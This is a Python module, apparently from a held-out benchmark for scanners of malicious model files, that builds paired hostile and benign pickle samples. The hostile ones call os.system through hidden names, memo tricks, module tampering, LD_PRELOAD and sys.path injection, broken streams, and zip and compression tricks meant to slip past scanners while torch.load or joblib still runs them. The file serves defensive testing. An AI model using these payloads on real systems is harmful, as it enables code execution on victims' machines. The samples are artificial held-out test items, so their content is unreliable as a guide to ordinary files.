"""Attacks by the pickle machine and its containers: hidden names, memo, extensions, frames, broken tails, compression and zip tricks."""

from __future__ import annotations

import base64
import bz2
import gzip
import lzma
import struct
import zlib
from collections.abc import Iterator

from bench.modelfiles.heldout.opcodes import (
    ECHO,
    EMPTY,
    NONE,
    SYSTEM,
    WEIGHTS,
    build,
    call,
    dict_of,
    done,
    framed,
    list_of,
    name,
    number,
    raw,
    short,
    stacked,
    tensor_state,
    text,
    torch_zip,
    tuple_of,
)  # fmt: skip
from bench.modelfiles.heldout.parts import tarred, zipped
from bench.modelfiles.heldout.sample import Group, Sample

group = Group("pickle machine")
EVIL, GOOD = done(SYSTEM), done(call("collections:OrderedDict"))
EVIL_TORCH, GOOD_TORCH = done(SYSTEM, 2), done(tensor_state(), 2)


def names() -> Iterator[Sample]:
    """Yield names that are hidden or computed, and other opcodes that call."""
    memo = short("os") + b"\x94" + short("system") + b"\x94" + b"00h\x00h\x01\x93"
    again = short("collections") + b"q\x00" + short("posix") + b"q\x000" + b"0h\x00" + short("system") + b"\x93"
    nested = stacked("numpy:f2py.os.system"), stacked("collections:OrderedDict.fromkeys")
    escaped = b"(S'\\x6f\\x73'\nS'\\163ystem'\n\x93", b"(S'c\\x6fllections'\nS'Ordered\\x44ict'\n\x93"
    unicode_ = (
        b"\x80\x04V\\u006f\\u0073\nVsy\\u0073tem\n\x93" + tuple_of(ECHO) + b"R.",
        b"\x80\x04Vcollecti\\u006fns\nVOrderedDict\n\x93)R.",
    )
    yield from group.pairs(
        ("memo-names", "a.pkl", done(memo + tuple_of(ECHO) + b"R"),
         done(memo.replace(b"\x02os", b"\x0bcollections").replace(b"\x06system", b"\x0bOrderedDict") + b")R"), "the names come out of the memo"),
        ("memo-overwritten", "b.pkl", done(again + tuple_of(ECHO) + b"R"),
         done(again.replace(b"\x05posix", b"\x0bcollections").replace(b"\x06system", b"\x07Counter") + b")R"),
         "a place of the memo is used twice, and the second value counts"),
        ("dotted", "c.pkl", done(nested[0] + tuple_of(ECHO) + b"R"), done(nested[1] + tuple_of(list_of("a")) + b"R"),
         "a dotted name walks from a trusted module to os"),
        ("escaped-text", "d.pkl", b"\x80\x04" + escaped[0] + tuple_of(ECHO) + b"R.", b"\x80\x04" + escaped[1] + b")R.",
         "names are texts of protocol 0 with escapes"),
    )  # fmt: skip
    yield from group.pair("unicode-text", "e.pkl", *unicode_, "names are raw Unicode escapes of protocol 0")
    joined = [call(call("builtins:getattr", text(""), "join"), list_of(*one)) for one in (("o", "s"), ("run", "1"))]
    yield from group.pair(
        "computed",
        "f.pkl",
        done(joined[0] + short("system") + b"\x93" + tuple_of(ECHO) + b"R"),
        done(joined[1]),
        "the module's name is computed while the pickle is loaded",
    )
    coded = [call("_codecs:encode", one, "rot13") for one in ("flfgrz", "zbqry")]
    extension = call("copyreg:add_extension", "os", "system", 240) + b"0\x82\xf0" + tuple_of(ECHO) + b"R"
    state = build(call("collections:OrderedDict"), tuple_of(NONE, dict_of(__setstate__=name("os:system"))))
    finder = name("sys:meta_path") + name("pkgutil:ImpImporter") + b"a"
    nested_ = call("pickle:loads", raw(EVIL)), call("builtins:bytearray", raw(GOOD))
    yield from group.pairs(
        ("codec", "g.pkl", done(short("os") + coded[0] + b"\x93" + tuple_of(ECHO) + b"R"), done(coded[1]), "the name is coded with rot13"),
        ("extension", "h.pkl", done(extension), done(dict_of(extension="os", code=240)), "the pickle registers an extension code and uses it"),
        ("inst", "i.pkl", done(b"(" + text(ECHO) + b"ios\nsystem\n", 2), done(b"(icollections\nOrderedDict\n", 2), "INST calls the name"),
        ("obj", "j.pkl", done(b"(" + name("os:system") + text(ECHO) + b"o"), done(b"(" + name("collections:OrderedDict") + b"o"),
         "OBJ calls the class on the stack"),
        ("build-setstate", "l.pkl", done(build(state, text(ECHO))), done(build(call("collections:OrderedDict"), dict_of(note="a"))),
         "BUILD gives the object a __setstate__, which the next BUILD calls"),
        ("build-module", "m.pkl", done(build(name("json:decoder"), dict_of(scanstring=name("os:system")))),
         done(build(call("argparse:Namespace"), dict_of(scan="json"))), "BUILD replaces a function in a module of the process"),
        ("setitem", "n.pkl", done(name("sys:modules") + text("json") + name("os:system") + b"s"),
         done(b"}" + text("json") + name("collections:Counter") + b"s"), "SETITEM changes sys.modules"),
        ("setitem-environment", "o.pkl", done(name("os:environ") + text("LD_PRELOAD") + text("/tmp/x/libx.so") + b"s"), done(dict_of(LD_LIBRARY_PATH="lib")),
         "SETITEM changes the environment of the process"),
        ("appends", "p.pkl", done(name("sys:path") + b"(" + text("/tmp/x") + b"e"), done(call("collections:deque") + b"(" + text("/tmp/x") + b"e"),
         "APPENDS puts a folder of the attacker into the search path"),
        ("append-finder", "q.pkl", done(finder), done(b"]" + name("collections:Counter") + b"a"), "APPEND adds a finder, which answers the next import"),
        ("nested", "r.pkl", done(nested_[0]), done(nested_[1]), "a pickle in bytes is loaded by the pickle"),
    )  # fmt: skip
    inner = [call("torch.storage:_load_from_bytes", raw(one)) for one in (EVIL, GOOD)]
    yield from group.pair("nested-torch", "s.pkl", done(inner[0]), done(inner[1]), "torch unpickles the bytes of a storage")  # fmt: skip


def streams() -> Iterator[Sample]:
    """Yield pickles whose ends, frames and lengths mislead."""
    stored = (
        torch_zip(done(tensor_state() + b"0" + SYSTEM, 2), more={"archive/data/0": bytes(8)}),
        torch_zip(GOOD_TORCH, more={"archive/data/0": bytes(8)}),
    )
    yield from group.pair("persistent", "l.pt", *stored, "a persistent id stands before the call, at which scanners without torch stop")
    new = name("numpy:memmap") + tuple_of("/tmp/x/y") + dict_of(mode="w+", shape=16) + b"\x92"
    body = SYSTEM + b"."
    straddling = [b"\x80\x04\x95" + struct.pack("<Q", 7) + one + b"." for one in (SYSTEM, tensor_state())]
    laughs = (
        b"]\x94"
        + b"(h\x00h\x00h\x00h\x00h\x00h\x00h\x00h\x00h\x00h\x00l\x94"
        + b"".join(b"(" + bytes([0x68, n]) * 10 + b"l\x94" for n in range(1, 30))
    )
    digits = done(b"I" + b"9" * 2000 + b"\n0" + SYSTEM, 2), done(b"I" + b"9" * 20 + b"\n", 2)
    yield from group.pairs(
        ("newobj-ex", "k.pkl", done(new), done(name("collections:Counter") + EMPTY + b"}\x92"), "NEWOBJ_EX constructs a memory map, which creates a file"),
        ("broken-tail", "a.pkl", EVIL[:-1] + b"\xff\xff\xff\xff", GOOD[:-1] + b"0N.", "the call has run before the machine meets an invalid opcode"),
        ("no-stop", "b.pkl", EVIL[:-1], GOOD, "the call has run before the end of the file"),
        ("second", "c.pkl", WEIGHTS + EVIL, WEIGHTS + GOOD, "programs that read several pickles of a file load the second"),
        ("short-frame", "d.pkl", straddling[0], framed(tensor_state()), "the frame ends within an opcode; the machine in Python and that in C differ"),
        ("laughs", "f.pkl", done(b"]" + laughs + call("builtins:hash", call("builtins:str", b"h\x1d"))), done(list_of(*range(30))),
         "a list of 10^30 items is printed"),
        ("memo-place", "h.pkl", b"\x80\x04Nr\xff\xff\xff\x7f0" + body, b"\x80\x04Nr\x01\x00\x00\x000N.",
         "the machine in C reserves sixteen gigabytes for the memo"),
    )  # fmt: skip
    yield from group.pair("long-number", "i.pkl", *digits, "parsers stop at the long number, the machine does not")
    yield from group.pairs(
        ("text-before", "j.pkl", b"S'" + b"A" * 70_000 + b"'\n0" + SYSTEM + b".", b"S'" + b"A" * 70_000 + b"'\n.",
         "the call stands behind more text than scanners read"),
        ("protocol-later", "k.pkl", b"N0\x80\x05" + body, b"N0\x80\x05N.", "the file begins with neither a protocol nor a usual opcode"),
        ("buffer", "m.pkl", done(b"\x96" + struct.pack("<Q", 4) + b"abcd" + b"\x980" + SYSTEM, 5), done(b"\x96" + struct.pack("<Q", 4) + b"abcd", 5),
         "opcodes of protocol 5 stand before the call"),
        ("pop-mark", "n.pkl", done(b"((((" + SYSTEM + b"1" + number(1)), done(b"((((" + text("a") + b"1" + number(1)),
         "the result of the call is thrown away with its marks"),
    )  # fmt: skip


def containers() -> Iterator[Sample]:
    """Yield pickles in compressed files and archives."""
    for label, file, pack in (
        ("joblib-zlib", "model.joblib", zlib.compress), ("gzip", "model.pkl", lambda data: gzip.compress(data, mtime=0)), ("bz2", "model.bin", bz2.compress),
        ("xz", "model.dat", lzma.compress), ("lzma", "model.sav", lambda data: lzma.compress(data, lzma.FORMAT_ALONE)), ("stored", "model.z", lambda data: zlib.compress(data, 0)),
    ):  # fmt: skip
        yield from group.pair(
            label, file, pack(EVIL + bytes(100)), pack(GOOD + bytes(100)), "joblib.load decompresses the file and unpickles it"
        )
    old = b"ZF" + b"0x%-19x" % len(EVIL) + zlib.compress(EVIL), b"ZF" + b"0x%-19x" % len(GOOD) + zlib.compress(GOOD)
    yield from group.pair("joblib-zf", "old.pkl", *old, "joblib.load reads its first format, too")
    evil, good = torch_zip(EVIL_TORCH), torch_zip(GOOD_TORCH)
    crc = zlib.crc32(EVIL_TORCH)
    prefix = b"\x7f" * 333
    legacy = done(b"\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19", 2) + done(b"M\xe9\x03", 2) + done(dict_of(little_endian=b"\x88"), 2)
    yield from group.pairs(
        ("twice-packed", "model.pkl.gz", gzip.compress(bz2.compress(EVIL), mtime=0), gzip.compress(bz2.compress(GOOD), mtime=0),
         "a loader that unpacks until it finds a pickle"),
        ("zip-crc", "crc.pt", evil.replace(struct.pack("<I", crc), b"\0\0\0\0"), good,
         "torch.load does not check the sum, at which scanners stop (CVE-2025-10156)"),
        ("zip-flags", "flags.pt", _patched(evil, 6, 1), good, "the bit for encryption makes scanners stop, torch.load ignores it"),
        ("zip-name", "name.pt", evil.replace(b"archive/data.pkl", b"archive/data.txt", 1), good, "local header and directory give two names"),
        ("zip-method", "method.pt", _patched(evil, 8, 99), good, "an unknown method in the local header makes scanners stop"),
        ("zip-prefix", "prefix.pt", prefix + evil, good, "bytes in front of the archive, which zipfile accepts"),
        ("zip-size", "size.pt", _patched(evil, 22, 0), good, "the local header says that the member is empty"),
        ("zip-folder", "folder.pt", torch_zip(EVIL_TORCH, "a/b/../c"), torch_zip(GOOD_TORCH, "a"), "the folder of the archive has dots"),
        ("zip-twice", "twice.pt", zipped([("m/data.pkl", GOOD_TORCH), ("m/data.pkl", EVIL_TORCH), ("m/version", "3\n")]),
         zipped([("m/data.pkl", GOOD_TORCH), ("m/version", "3\n")]), "the second of two members of this name is loaded"),
        ("zip-comment", "comment.pt", evil[:-2] + struct.pack("<H", 22) + b"PK\5\6" + bytes(18), good, "a second end of the directory lies in the comment"),
        ("legacy", "old.pth", legacy + EVIL_TORCH, legacy + GOOD_TORCH, "torch.load unpickles the fourth pickle of the old format"),
        ("legacy-tar", "older.pth", tarred({"sys_info": GOOD, "pickle": EVIL, "storages": GOOD, "tensors": GOOD}),
         tarred({"sys_info": GOOD, "pickle": GOOD, "storages": GOOD, "tensors": GOOD}), "torch.load reads the oldest format"),
        ("base64", "model.b64", base64.b64encode(EVIL) + b"\n", base64.b64encode(GOOD) + b"\n", "programs decode the text and unpickle it"),
    )  # fmt: skip


def _patched(data: bytes, at: int, value: int) -> bytes:
    """Return the archive with two bytes of the first local header changed."""
    return data[:at] + struct.pack("<H", value) + data[at + 2 :]


def samples() -> Iterator[Sample]:
    """Yield the samples of this class."""
    yield from (*names(), *streams(), *containers())
